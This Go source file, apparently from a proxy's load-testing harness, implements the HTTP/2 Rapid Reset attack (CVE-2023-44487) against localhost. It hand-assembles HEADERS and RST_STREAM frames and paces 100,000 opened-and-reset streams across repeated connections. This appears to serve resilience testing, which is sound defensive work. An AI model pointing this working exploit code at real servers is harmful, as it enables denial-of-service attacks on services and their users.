package load

import (
	"encoding/binary"
	"io"
	"net"
	"strconv"
	"time"

	"github.com/weftmesh/weft/wire/http2"
)

// resets is how many streams an attack opens and resets, spread over the measured time: to send them as fast as can be would take the
// processor away from the client that is looked at, whatever the proxy does.
const resets = 100_000

// perBatch is how many streams are opened and reset in one write.
const perBatch = 100

// runResets opens streams and resets them at once, on one connection after another (CVE-2023-44487). It counts as requests what it has
// sent; that it is thrown out is no fault.
func runResets(spec Spec) (Result, error) {
	var r Result
	from := time.Now()
	for r.Requests < resets {
		c, err := net.Dial("tcp", "127.0.0.1:"+strconv.Itoa(spec.Port))
		if err != nil {
			return r, err
		}
		r.Reopened++
		ended := make(chan struct{})
		go func() {
			io.Copy(io.Discard, c)
			close(ended)
		}()
		batch := begin(spec.Path)
		for id := uint32(3); id < http2.MaxID-2*perBatch; id += 2 * perBatch {
			for i := range uint32(perBatch) {
				batch = append(batch, 0, 0, byte(len(indexed)), 1, 5)
				batch = binary.BigEndian.AppendUint32(batch, id+2*i)
				batch = append(batch, indexed...)
				batch = append(batch, 0, 0, 4, 3, 0)
				batch = binary.BigEndian.AppendUint32(batch, id+2*i)
				batch = append(batch, 0, 0, 0, 8)
			}
			due := from.Add(spec.Measure * time.Duration(r.Requests) / resets)
			time.Sleep(time.Until(due))
			if _, err := c.Write(batch); err != nil {
				break
			}
			batch = batch[:0]
			if r.Requests += perBatch; r.Requests >= resets {
				break
			}
		}
		c.Close()
		<-ended
	}
	r.Elapsed = time.Since(from)
	return r, nil
}

// indexed is a request whose fields are all in the tables: of GET, http, and the first two that begin has put there.
var indexed = []byte{0x82, 0x86, 0x80 | 63, 0x80 | 62}

// begin is what a connection begins with: the preface, and settings. The first request puts its fields into the table.
func begin(path string) []byte {
	b := append([]byte(nil), "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"...)
	block := []byte{0x82, 0x86, 0x40 | 4, byte(len(path))}
	block = append(block, path...)
	block = append(block, 0x40|1, 1, 'a')
	b = append(b, 0, 0, byte(len(block)), 1, 4, 0, 0, 0, 1)
	b = append(b, block...)
	return append(b, 0, 0, 4, 3, 0, 0, 0, 0, 1, 0, 0, 0, 8)
}
